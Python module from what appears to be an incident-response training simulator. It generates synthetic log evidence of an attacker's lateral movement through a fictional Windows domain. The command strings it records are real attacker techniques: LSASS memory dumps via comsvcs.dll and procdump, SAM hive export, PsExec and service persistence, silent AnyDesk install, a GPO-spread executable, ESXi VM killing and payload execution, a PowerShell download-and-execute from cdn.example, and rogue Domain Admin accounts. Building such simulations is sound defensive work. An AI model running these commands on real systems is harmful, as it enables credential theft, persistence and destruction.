"""From machine to machine, and to more rights."""

from __future__ import annotations

from collections.abc import Callable

from hikeshi.demo.actions import CMD, POWERSHELL, SVCHOST
from hikeshi.demo.evidence_set import Record
from hikeshi.demo.incidents.incident import Incident
from hikeshi.demo.world import MINUTE, SECOND, Host

_SYSTEM32 = "C:\\Windows\\System32\\"
_TOOLS = ("C:\\PerfLogs\\", "C:\\Users\\Public\\", "C:\\ProgramData\\", "C:\\Windows\\Temp\\")


def steal(inc: Incident) -> None:
    """An administrator's password from the memory of the machine he sits on; the administrator had been there."""
    do, host = inc.do, inc.base
    if host not in ("WEB01",):
        do.rdp(inc.address("JUMP01"), host, inc.admin, inc.world.at(inc.day - 1, "14:20:31"), minutes=30,
               used_by=inc.admin, client_name="JUMP01")  # fmt: skip
    folder = inc.rng.choice(_TOOLS)
    time = inc.wait(200, 900)
    image, command = inc.rng.choice((
        (_SYSTEM32 + "rundll32.exe",
         f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 {folder}d.dmp full"),
        (folder + "p64.exe", f"p64.exe -accepteula -ma lsass.exe {folder}l.dmp"),
        (_SYSTEM32 + "reg.exe", f"reg save hklm\\sam {folder}s.hiv"),
    ))  # fmt: skip
    records = do.process(host, "SYSTEM", 0x3E7, time, image, command, CMD)
    if "reg" not in image:
        records += do.process_access(host, "SYSTEM", time + SECOND, image, _SYSTEM32 + "lsass.exe", "0x1fffff")
    inc.hold(host, time, records)


def _step(inc: Incident, target: str, method: str, records: list[Record], time: int, *, account: str = "") -> None:
    inc.story.spread(inc.base, target, account or inc.admin, method, time, records)
    if target not in inc.held:
        inc.held.append(target)


def psexec(inc: Incident, target: str) -> None:
    command = inc.rng.choice((
        "cmd.exe /c dir D:\\ /s > C:\\PerfLogs\\t.txt", "cmd.exe /c ipconfig /all", "cmd.exe /c quser",
        "cmd.exe /c net localgroup administrators"))  # fmt: skip
    time = inc.wait()
    _, records = inc.do.psexec(inc.base, target, inc.admin, time, tool=inc.rng.choice(_TOOLS) + "PsExec64.exe",
                               options="-accepteula -s", remote_command=command, used_by=inc.account,
                               remote_image=CMD)  # fmt: skip
    _step(inc, target, "psexec_service", records, time)


def service(inc: Incident, target: str) -> None:
    time = inc.wait()
    name = inc.rng.choice(("WinSyncHost", "SvcHelper", "DcomUpd", "NetMonitorSvc"))
    image = f"C:\\Windows\\Temp\\{name.lower()}.exe"
    _, records = inc.do.remote_service(inc.base, target, inc.admin, time, used_by=inc.account, name=name,
                                       image=f"{image} -k netsvc", drop=f"Temp\\{name.lower()}.exe")  # fmt: skip
    _step(inc, target, "service", records, time)
    inc.story.may("persistence", [target, "service", name])


def wmi(inc: Incident, target: str) -> None:
    time = inc.wait()
    command = inc.rng.choice(("cmd.exe /c whoami > C:\\Windows\\Temp\\w.txt", "cmd.exe /c net user /domain"))
    _, records = inc.do.wmi(inc.base, target, inc.admin, time, used_by=inc.account, image=CMD, command=command)
    _step(inc, target, "wmi", records, time)


def winrm(inc: Incident, target: str) -> None:
    time = inc.wait()
    _, records = inc.do.winrm(inc.base, target, inc.admin, time, used_by=inc.account, image=CMD,
                              command='"cmd.exe" /c systeminfo')  # fmt: skip
    _step(inc, target, "winrm", records, time)


def task(inc: Incident, target: str) -> None:
    time = inc.wait()
    name = inc.rng.choice(("UpdCheck", "SysHealth", "DiskTidy"))
    _, records = inc.do.remote_task(inc.base, target, inc.admin, time, used_by=inc.account, name=name, command=CMD,
                                    arguments="/c C:\\Users\\Public\\r.bat")  # fmt: skip
    _step(inc, target, "scheduled_task", records, time)
    inc.story.may("persistence", [target, "scheduled_task", f"\\{name}"])


def rdp(inc: Incident, target: str) -> None:
    """Remote desktop, and on the new machine a look around."""
    time = inc.wait()
    session, records = inc.do.rdp(inc.address(inc.base), target, inc.admin, time, minutes=40, used_by=inc.account,
                                  client_name=inc.base)  # fmt: skip
    _step(inc, target, "rdp", records, time)
    inc.do.process(target, inc.admin, session, time + 2 * MINUTE, _SYSTEM32 + "net.exe",
                   'net localgroup administrators', CMD)  # fmt: skip


def rdp_onward(inc: Incident, target: str) -> None:
    """Remote desktop, and from now on he works from there."""
    rdp(inc, target)
    inc.settle(target, inc.admin, inc.world.next_logon_id())


def smb_copy(inc: Incident, target: str) -> None:
    """A program copied to an administrative share and started by a service that is one command."""
    time = inc.wait()
    do, here = inc.do, inc.address(inc.base)
    records = inc.run(CMD, f"cmd.exe /c copy C:\\PerfLogs\\a.exe \\\\{target}\\C$\\Windows\\Temp\\a.exe", CMD)
    time = inc.now
    records += do.explicit_credentials(inc.base, inc.account, inc.session, inc.admin, inc.world.host(target),
                                       time - SECOND, _SYSTEM32 + "net.exe",
                                       f"cifs/{target.lower()}.kaede.example")  # fmt: skip
    session, more = do.logon(target, inc.admin, 3, time, address=here, stay_s=90)
    records += more
    records += do.share_access(target, inc.admin, session, time + 200_000, here, "C$", "Windows\\Temp\\a.exe",
                               "\\??\\C:\\")  # fmt: skip
    _step(inc, target, "smb", records, time)


def anydesk(inc: Incident, target: str) -> None:
    """AnyDesk put on a machine by PsExec; later somebody comes in from outside with it."""
    tool = "C:\\ProgramData\\AnyDesk\\AnyDesk.exe"
    time = inc.wait()
    _, records = inc.do.psexec(inc.base, target, inc.admin, time, tool="C:\\PerfLogs\\PsExec64.exe",
                               options="-accepteula -s", remote_command=f"{tool} --install C:\\ProgramData\\AnyDesk "
                               "--start-with-win --silent", used_by=inc.account, remote_image=tool)  # fmt: skip
    _step(inc, target, "psexec_service", records, time)
    records = inc.do.service_installed(target, "SYSTEM", 0x3E7, time + 6 * SECOND, "AnyDesk Service",
                                       f'"{tool}" --service', start="auto start")  # fmt: skip
    inc.story.claim("persistence", [target, "remote_tool", "AnyDesk Service"], time, records)
    number = 700_000_000 + inc.rng.randrange(999_999)
    trace = inc.do.anydesk_trace(target, inc.store, number, time + 9 * MINUTE)
    inc.do.process(target, "SYSTEM", 0x3E7, time + 10 * MINUTE, CMD, '"C:\\Windows\\system32\\cmd.exe"', tool)
    inc.story.claim("spread", [inc.store, target, "", "remote_tool"], time + 9 * MINUTE, trace)
    inc.story.may("spread", [inc.store, target, "", "remote_tool"])
    inc.story.may("c2", inc.store)
    inc.now = time + 12 * MINUTE


def policy(inc: Incident, target: str) -> None:
    """To the domain controller, then a task on many machines at once by group policy."""
    inc.take("DC01")
    rdp_onward(inc, "DC01")
    time = inc.wait()
    records = inc.do.policy_changed(inc.admin, inc.session, time, "7F1C0E2A-44D1-4C0B-9C55-0A1B2C3D4E5F")
    inc.hold("DC01", time, records)
    time += 12 * MINUTE
    for number, host in enumerate((target, inc.server(), inc.client(), inc.client())):
        moment = time + number * 47 * SECOND
        drop = "\\\\kaede.example\\SYSVOL\\kaede.example\\scripts\\g.exe"
        records = inc.do.task_registered(host, "SYSTEM", 0x3E7, moment, "\\GpoUpd", "cmd.exe", f"/c {drop} -q")
        records += inc.do.process(host, "SYSTEM", 0x3E7, moment + 20 * SECOND, CMD, f"cmd.exe /c {drop} -q", SVCHOST)
        inc.hold(host, moment, records)
        inc.story.claim("spread", ["DC01", host, inc.admin, "gpo"], moment, records)
    inc.now = time + 6 * MINUTE


def esxi(inc: Incident, target: str) -> None:
    """To the hypervisor with root's password, where the machines are switched off."""
    inc.world.hosts["ESX01"] = inc.world.hosts.get("ESX01") or Host("ESX01", "10.20.1.71", "linux")
    time = inc.wait()
    records = inc.do.process(inc.base, inc.account, inc.session, time - 5 * SECOND, "C:\\PerfLogs\\plink.exe",
                             "plink.exe -ssh root@10.20.1.71", CMD)  # fmt: skip
    records += inc.do.esxi_session(inc.address(inc.base), time, (
        "esxcli vm process list", "vim-cmd vmsvc/getallvms", "esxcli vm process kill --type=force --world-id=2101",
        "chmod +x /tmp/e", "/tmp/e /vmfs/volumes"), failures=inc.rng.choice((0, 2)))  # fmt: skip
    _step(inc, "ESX01", "ssh", records, time, account="root")
    inc.now += 2 * MINUTE


def winrm_script(inc: Incident, target: str) -> None:
    """PowerShell remoting, told by the scripts' own text on the target."""
    winrm(inc, target)
    inc.do.script(target, inc.admin, inc.now + 6 * SECOND, "$s = New-Object Net.WebClient; "
                  "IEX $s.DownloadString('https://cdn.example/c.ps1')")  # fmt: skip


def new_account(inc: Incident) -> None:
    """An account of his own on a domain controller, made a domain administrator."""
    inc.take("DC01")
    if inc.base != "DC01":
        rdp_onward(inc, "DC01")
    name = inc.add_account(inc.rng.choice(("svc_print", "helpdesk2", "sqlagent", "bk_admin")))
    time = inc.wait()
    records = inc.do.account_created("DC01", inc.admin, inc.session, time, name, inc.world.sid(name))
    records += inc.do.group_member("DC01", inc.admin, inc.session, time + 20 * SECOND, name, "Domain Admins")
    inc.story.account(name, time, records)
    inc.story.claim("persistence", ["DC01", "account", name], time, records)


def dormant_account(inc: Incident) -> None:
    """An account nobody used any more is switched on again, then used."""
    inc.take("DC01")
    if inc.base != "DC01":
        rdp_onward(inc, "DC01")
    name = inc.add_account(inc.rng.choice(("h.okamoto", "tanaka-old", "svc_scan2019")))
    time = inc.wait()
    records = inc.do.account_enabled("DC01", inc.admin, inc.session, time, name)
    records += inc.do.group_member("DC01", inc.admin, inc.session, time + 20 * SECOND, name, "Domain Admins")
    inc.story.account(name, time, records)
    target, moment = inc.server(), inc.wait()
    session, more = inc.do.rdp(inc.address("DC01"), target, name, moment, minutes=30, used_by=inc.admin,
                               client_name="DC01")  # fmt: skip
    _step(inc, target, "rdp", more, moment, account=name)
    inc.do.process(target, name, session, moment + MINUTE, POWERSHELL, "powershell.exe -nop Get-ADComputer -Filter *",
                   CMD)  # fmt: skip


def jump_host(inc: Incident, target: str) -> None:
    """To the administrators' own jump host, and from there along their daily path."""
    inc.take("JUMP01")
    rdp_onward(inc, "JUMP01")
    rdp(inc, target)
    wmi(inc, inc.server())


def spray_inside(inc: Incident, target: str) -> None:
    """One password over the staff from the machine he sits on, then the administrator whose it is."""
    here = inc.address(inc.base)
    for user in inc.rng.sample([u.account for u in inc.world.users], 25):
        inc.do.failed_logon(target, user, 3, inc.wait(1, 4), address=here)
    winrm(inc, target)


def plain_service(inc: Incident, target: str) -> None:
    """A service with an honest-looking name and path, made from afar."""
    time = inc.wait()
    image = "C:\\Program Files\\Common Files\\Update\\updhost.exe"
    _, records = inc.do.remote_service(
        inc.base, target, inc.admin, time, used_by=inc.account, name="UpdateHost", image=image, drop="Temp\\u.tmp"
    )
    _step(inc, target, "service", records, time)
    inc.story.may("persistence", [target, "service", "UpdateHost"])


MOVES: dict[str, Callable[[Incident, str], None]] = {
    "psexec": psexec, "service": service, "wmi": wmi, "winrm": winrm, "task": task, "rdp": rdp,
    "rdp_onward": rdp_onward, "smb": smb_copy, "anydesk": anydesk, "gpo": policy, "esxi": esxi,
    "winrm_script": winrm_script, "jump_host": jump_host, "spray": spray_inside, "plain_service": plain_service,
}  # fmt: skip
